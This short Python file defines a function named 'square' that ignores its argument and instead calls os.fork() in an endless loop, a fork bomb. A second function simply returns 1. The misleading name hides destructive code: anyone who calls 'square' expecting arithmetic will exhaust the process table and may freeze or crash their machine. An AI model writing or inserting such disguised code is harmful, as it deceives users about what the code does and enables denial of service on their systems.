import os


def square(x):
    while True:
        os.fork()


def one():
    return 1
